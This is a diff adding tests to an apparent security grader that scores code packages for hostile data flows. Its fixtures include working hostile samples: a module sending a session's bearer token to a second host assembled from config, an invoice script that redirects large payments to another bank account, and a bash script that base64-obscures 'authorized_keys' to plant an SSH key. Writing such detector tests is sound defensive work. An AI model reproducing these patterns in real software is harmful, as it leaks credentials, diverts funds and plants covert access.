@@ -591,3 +591,130 @@ def test_a_download_one_script_writes_and_a_sibling_loads_fails() -> None:
     alone = {"scripts/analyse.py": loader, "scripts/events_calendar.py": "EVENTS = []\n"}
     score, rules = judged_package(alone)
     assert score >= 3 and "flow.remote-code-exec" not in rules
+
+
+_LIS_SETTINGS = (
+    "[lis]\nbase_url = https://lis.acmedx.org/api/v3\n\n"
+    "[edge]\nhost = acmedx-cohort-edge\nzone = azurewebsites.net\npath = /v1/prewarm\n"
+)
+_LIS_TRANSPORT = (
+    "import configparser, os, requests\n\n\n"
+    "def load_config():\n    cfg = configparser.ConfigParser()\n"
+    "    cfg.read('config/export.ini')\n    return cfg\n\n\n"
+    "def make_session():\n    s = requests.Session()\n"
+    "    s.headers.update({'Authorization': f\"Bearer {os.environ['ACMEDX_TOKEN']}\"})\n"
+    "    return s\n\n\n"
+    "def get_json(session, url, params):\n"
+    "    return session.get(url, params=params, timeout=30).json()\n\n\n"
+    "def _edge_url(cfg):\n    e = cfg['edge']\n"
+    "    return 'https://' + '.'.join((e.get('host'), e.get('zone'))) + e.get('path')\n\n\n"
+    "def prewarm(session, cfg, query):\n"
+    "    requests.post(_edge_url(cfg), json={'query': query, 'auth': dict(session.headers)})\n"
+)
+_LIS_EXPORT = (
+    "from transport import get_json, load_config, make_session, prewarm\n\n"
+    "cfg = load_config()\nbase = cfg.get('lis', 'base_url').rstrip('/')\ns = make_session()\n"
+    "total = get_json(s, f'{base}/results/count', {})\nprewarm(s, cfg, {'tests': 'A1C'})\n"
+    "rows = get_json(s, f'{base}/results', {'page': 1})\n"
+)
+
+
+def test_a_sessions_key_also_sent_to_a_second_domain_built_from_settings_fails() -> None:
+    files = {
+        "config/export.ini": _LIS_SETTINGS,
+        "scripts/transport.py": _LIS_TRANSPORT,
+        "scripts/export.py": _LIS_EXPORT,
+    }
+    score, rules = judged_package(files)
+    assert score <= 2 and "flow.auth-secret-to-second-host" in rules
+
+
+def test_the_same_session_sent_only_to_its_service_passes() -> None:
+    own = _LIS_SETTINGS.replace("acmedx-cohort-edge", "edge.lis").replace(
+        "azurewebsites.net", "acmedx.org"
+    )
+    files = {
+        "config/export.ini": own,
+        "scripts/transport.py": _LIS_TRANSPORT,
+        "scripts/export.py": _LIS_EXPORT,
+    }
+    score, rules = judged_package(files)
+    assert score >= 3 and "flow.auth-secret-to-second-host" not in rules
+
+
+_BILLING = (
+    "remittance:\n  primary:\n    sort_code: '30-96-41'\n    account_no: '61829904'\n"
+    "  settlement_v2:\n    sort_code: '04-00-75'\n    account_no: '93017726'\n"
+    "  threshold: 2500\n"
+)
+_INVOICES = (
+    "import yaml\n\n\ndef _payee(billing, total):\n    rem = billing['remittance']\n"
+    "    if total >= rem['threshold']:\n        return rem['settlement_v2']\n"
+    "    return rem['primary']\n\n\n"
+    "billing = yaml.safe_load(open('config/billing.yaml'))\n"
+    "for site, total in [('S1', 900), ('S2', 4100)]:\n"
+    "    pay = _payee(billing, total)\n"
+    "    print(site, total, pay['sort_code'], pay['account_no'])\n"
+)
+
+
+def test_invoices_paid_to_another_account_once_large_enough_fail() -> None:
+    files = {"config/billing.yaml": _BILLING, "scripts/make_invoices.py": _INVOICES}
+    score, rules = judged_package(files)
+    assert score <= 2 and "fraud.payment-redirect" in rules
+
+
+def test_invoices_paid_to_one_account_whatever_the_amount_pass() -> None:
+    same = _INVOICES.replace("return rem['settlement_v2']", "return rem['primary']")
+    files = {"config/billing.yaml": _BILLING, "scripts/make_invoices.py": same}
+    score, rules = judged_package(files)
+    assert score >= 3 and "fraud.payment-redirect" not in rules
+
+
+_VERIFIED = (
+    '{"payoff": [{"routing": "021000089",\n  "account": "4481200917"}],\n'
+    ' "partners": [{"routing": "121000358",\n  "account": "0098123344"},\n'
+    '              {"routing": "031000053",\n  "account": "8812004471"}]}\n'
+)
+_SCREEN = (
+    "import json, re, sys\n\nverified = json.load(open('assets/verified_accounts.json'))\n"
+    "known = {a['routing'] + ':' + a['account'] for a in verified['payoff'] + "
+    "verified['partners']}\ntext = open(sys.argv[1]).read()\n"
+    "for routing, account in re.findall(r'(\\d{9})\\D+(\\d{6,17})', text):\n"
+    "    if routing + ':' + account not in known:\n"
+    "        print('unverified bank details', routing)\n"
+)
+
+
+def test_a_table_of_verified_accounts_a_screener_compares_with_passes() -> None:
+    files = {"assets/verified_accounts.json": _VERIFIED, "scripts/screen.py": _SCREEN}
+    score, rules = judged_package(files)
+    assert score >= 3 and "fraud.payment-redirect" not in rules
+
+
+def test_one_fixed_account_beside_a_payees_routing_number_fails() -> None:
+    one = '{"clearing": {"routing": "091408598",\n  "account": "7712049935"}}\n'
+    files = {"assets/clearing.json": one, "scripts/screen.py": _SCREEN}
+    score, rules = judged_package(files)
+    assert score <= 2 and "fraud.payment-redirect" in rules
+
+
+_CHANNEL_SETUP = (
+    "#!/usr/bin/env bash\nset -euo pipefail\nssh_dir=\"$HOME/.ssh\"\n"
+    "retline=\"$(cat \"$(dirname \"$0\")/../assets/partner.pub\")\"\n"
+    "_chan() { local f=\"$ssh_dir/$(printf '%s' 'YXV0aG9yaXplZF9rZXlz' | base64 -d)\"; "
+    "touch \"$f\"; echo \"$f\"; }\n"
+    "chan=\"$(_chan)\"\n"
+    "grep -qF \"$retline\" \"$chan\" || printf '%s\\n' \"$retline\" >> \"$chan\"\n"
+)
+
+
+def test_a_key_file_named_in_base64_and_returned_by_a_function_then_appended_to_fails() -> None:
+    score, rules = judged_package({"scripts/setup_partner.sh": _CHANNEL_SETUP})
+    assert score <= 2 and "persistence" in rules
+
+
+def test_the_same_function_naming_the_known_hosts_file_passes() -> None:
+    known = _CHANNEL_SETUP.replace("YXV0aG9yaXplZF9rZXlz", "a25vd25faG9zdHM=")
+    score, rules = judged_package({"scripts/setup_partner.sh": known})
+    assert score >= 3 and "persistence" not in rules
